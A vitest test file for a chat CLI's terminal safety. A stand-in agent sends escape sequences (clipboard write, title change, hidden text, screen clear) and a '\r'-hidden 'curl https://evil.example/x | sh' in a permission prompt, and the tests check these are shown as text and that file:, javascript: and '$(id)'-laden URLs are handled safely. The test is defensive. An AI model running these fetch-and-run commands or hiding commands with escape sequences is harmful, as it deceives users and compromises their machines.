// The terminal is the person's: an agent that sends escape sequences (OSC 52 clipboard,
// OSC 0 title, OSC 8 link, CSI 2J, SGR 8 hidden text, an 8-bit CSI) in its reply, thought,
// tool titles, diffs, plan, modes, errors and elicitation fields, and hides `curl … | sh`
// behind \r in a permission question (test/support/escape-agent.mjs, a stand-in: no real
// agent does it on purpose). The chat runs in a real tmux window on a tmux server of its
// own that accepts clipboard writes, and the test reads what the person would see: the
// screen, its text attributes, the window title, the paste buffers. URL elicitations go to
// a stand-in `xdg-open` on PATH (no desktop here) that records its argv.
import { existsSync, mkdirSync, readFileSync, writeFileSync, chmodSync } from 'node:fs';
import path from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import { until } from '../support/until.js';
import { endTmuxScreens, quote, TmuxScreen } from './pty-screen.js';
import { cliMain, repoRoot, tempSketch } from './run-cli.js';

afterEach(endTmuxScreens);

const agentCommand = `${quote(process.execPath)} ${quote(path.join(repoRoot, 'test', 'support', 'escape-agent.mjs'))}`;
// What the terminal would have obeyed, shown as text instead.
const SHOWN_ATTACK = '\\e]52;c;Y3VybCBodHRwczovL2V2aWwuZXhhbXBsZSB8IHNo\\x07 \\e]0;PWNED-TITLE\\x07 \\e]8;;https://evil.example/\\e\\click-me\\e]8;;\\e\\ \\e[2J\\e[H \\e[8mHIDDEN-WORD\\e[0m \\u{9b}2J';
const SHOWN_CURL = 'curl https://evil.example/x | sh\\r\\e[2K\\e[1G ls -la';

function startChat(): { screen: TmuxScreen; openerLog: string } {
  const { root, sketch } = tempSketch();
  const bin = path.join(root, 'bin');
  mkdirSync(bin);
  const openerLog = path.join(root, 'xdg-open.log');
  // The stand-in desktop opener: one line with its argument count, then one per argument (complete once it appears).
  writeFileSync(path.join(bin, 'xdg-open'), `#!/bin/sh\n{ echo "$#"; for a in "$@"; do printf '%s\\n' "$a"; done; } >> ${quote(openerLog)}.part\nmv ${quote(openerLog)}.part ${quote(openerLog)}\n`);
  chmodSync(path.join(bin, 'xdg-open'), 0o755);
  const screen = TmuxScreen.start(
    [process.execPath, cliMain, 'chat', '--workspace', sketch, '--agent-command', agentCommand],
    { PATH: `${bin}:${process.env.PATH ?? ''}`, HOME: root, BOARDBRIDGE_STATE_DIR: path.join(root, 'state'), TERM: 'xterm-256color', NO_COLOR: '1', LANG: 'C.UTF-8', DISPLAY: ':0' },
    { columns: 320, rows: 60 },
    { socket: `bb-escape-${process.pid}-${Math.random().toString(36).slice(2, 8)}`, options: ['set -s set-clipboard on', 'set -g allow-rename on'] },
  );
  return { screen, openerLog };
}

/** What the terminal took from the agent's bytes as commands: a title, a clipboard write, hidden text. */
function obeyed(screen: TmuxScreen): { title: string; buffers: string; hidden: boolean } {
  return {
    title: screen.tmux(['display', '-p', '-t', screen.name, '#{pane_title}']).trim(),
    buffers: screen.tmux(['list-buffers']),
    // tmux shows the attribute "hidden" (SGR 8) of captured text as an SGR sequence with an 8 in it.
    hidden: /\x1b\[(?:[0-9;]*;)?8(?:;[0-9;]*)?m/.test(screen.captureStyled()),
  };
}

async function quit(screen: TmuxScreen): Promise<void> {
  screen.type('/quit');
  screen.key('Enter');
  await screen.waitFor('[exit 0]');
}

describe('chat keeps the terminal the person\'s (stand-in escape agent, stand-in xdg-open)', { timeout: 120_000 }, () => {
  it('shows escape sequences in the reply, thought, tool title, diff, plan, name and modes as text, and the \\r-hidden curl | sh in full', async () => {
    const { screen } = startChat();
    await screen.waitFor(/^›/m);
    screen.type('attack-text');
    screen.key('Enter');
    const asking = await screen.waitFor(/Choose 1-2 .*\]:\s*$/m);
    // The whole command line is on the screen, \r and the erase as text, inside the quotation.
    expect(asking).toContain(`│ ${SHOWN_CURL}`);
    expect(asking).toMatch(/Permission needed · execute · the request says:/);
    // An option's name is the agent's too: shown as text, cut at 80 characters.
    expect(asking).toContain(`1. ${`Allow ${SHOWN_ATTACK}`.slice(0, 80)}…  [allow_once]  (Enter)`);
    screen.key('Enter');
    const done = await screen.waitFor('done (end_turn)');
    for (const label of ['reply', 'thought', 'tool-title', 'diff', 'plan']) expect(done).toContain(`before-attack ${label} ${SHOWN_ATTACK} after-attack`);
    expect(done).toContain('escape-agent\\e]0;AGENT-TITLE\\x07 1.0.0');
    expect(done).toContain('permission answer: {"outcome":{"outcome":"selected","optionId":"ok"}}');
    // Nothing was cleared: the help line written before the first CSI 2J is still there.
    expect(done).toContain('Type a message.');
    screen.type('/modes');
    screen.key('Enter');
    await screen.waitFor(`* ask  before-attack mode ${SHOWN_ATTACK} after-attack`);
    screen.type('/mode plan');
    screen.key('Enter');
    await screen.waitFor(`before-attack error ${SHOWN_ATTACK} after-attack`);
    expect(obeyed(screen)).toEqual({ title: expect.not.stringMatching(/PWNED|AGENT-TITLE/), buffers: '', hidden: false });
    await quit(screen);
  });

  it('quotes a permission title of 41 lines in 8 and says how many are left out, so the options stay in view', async () => {
    const { screen } = startChat();
    await screen.waitFor(/^›/m);
    screen.type('attack-tall');
    screen.key('Enter');
    const asking = await screen.waitFor(/Choose 1-2 .*\]:\s*$/m);
    const rows = asking.split('\n');
    const header = rows.findIndex((r) => r.startsWith('Permission needed · read · the request says:'));
    expect(rows[header + 1]).toBe('  │ Read README.md');
    expect(rows.slice(header + 2, header + 9)).toEqual(Array(7).fill('  │'));
    expect(rows[header + 9]).toBe('  │ … (33 more lines not shown)');
    expect(rows[header + 10]).toMatch(/^ {2}1\. Allow /);
    expect(rows[header + 11]).toBe('  2. Reject  [reject_once]');
    screen.type('2');
    screen.key('Enter');
    await screen.waitFor('permission answer: {"outcome":{"outcome":"selected","optionId":"no"}}');
    await quit(screen);
  });

  it('shows the escape sequences of a form\'s message, field title, description and choices as text', async () => {
    const { screen } = startChat();
    await screen.waitFor(/^›/m);
    screen.type('attack-form');
    screen.key('Enter');
    const asked = await screen.waitFor(/field-title .* after-attack \* \(1-1\):\s*$/m);
    expect(asked).toContain(`The agent asks: before-attack message ${SHOWN_ATTACK} after-attack`);
    expect(asked).toContain(`  │ before-attack description ${SHOWN_ATTACK} after-attack`);
    expect(asked).toContain(`    1. before-attack choice ${SHOWN_ATTACK} after-attack (uno)`);
    expect(asked).toContain(`  before-attack field-title ${SHOWN_ATTACK} after-attack * (1-1):`);
    screen.type('1');
    screen.key('Enter');
    await screen.waitFor('elicitation answer: {"action":"accept","content":{"board":"uno"}}');
    expect(obeyed(screen)).toEqual({ title: expect.not.stringMatching(/PWNED|AGENT-TITLE/), buffers: '', hidden: false });
    await quit(screen);
  });

  it('never opens a file: or javascript: URL, and opens an http(s) one only after the person says yes, as one argv word', async () => {
    const { screen, openerLog } = startChat();
    await screen.waitFor(/^›/m);
    for (const url of ['file:///etc/passwd', 'javascript:alert(1)//&calc.exe']) {
      screen.type(`attack-url ${url}`);
      screen.key('Enter');
      const shown = await screen.waitFor(/Press Enter when you are done there, or type \/decline:\s*$/m);
      expect(shown).toContain(`The page: ${url}`);
      expect(shown).toMatch(/\(not opened: only http and https pages are opened, this is a (file|javascript): address\)/);
      expect(shown).not.toContain('Open it in your browser?');
      screen.type('/decline');
      screen.key('Enter');
      await screen.waitFor(`elicitation answer: {"action":"decline"}`);
      screen.tmux(['clear-history', '-t', screen.name]);
      screen.key('C-l');
    }
    const page = `https://example.invalid/authorize?code=1&next=$(id)|x;y"z'w`;
    screen.type(`attack-url ${page}`);
    screen.key('Enter');
    await screen.waitFor(/Open it in your browser\? \[y\/N\]\s*$/m);
    // Asked, not yet answered: nothing reached the opener.
    expect(existsSync(openerLog)).toBe(false);
    screen.key('Enter');
    await screen.waitFor(/\(not opened\)\n {2}Press Enter when you are done there/);
    screen.key('Enter');
    await screen.waitFor('elicitation answer: {"action":"accept"}');
    expect(existsSync(openerLog)).toBe(false);
    screen.key('C-l');
    screen.type(`attack-url ${page}`);
    screen.key('Enter');
    await screen.waitFor(/Open it in your browser\? \[y\/N\]\s*$/m);
    screen.type('y');
    screen.key('Enter');
    await screen.waitFor('(opened in your browser)');
    await until('the stand-in opener to have run', () => existsSync(openerLog));
    expect(readFileSync(openerLog, 'utf8')).toBe(`1\n${new URL(page).href}\n`);
    screen.key('Enter');
    await screen.waitFor('elicitation answer: {"action":"accept"}');
    await quit(screen);
  });
});
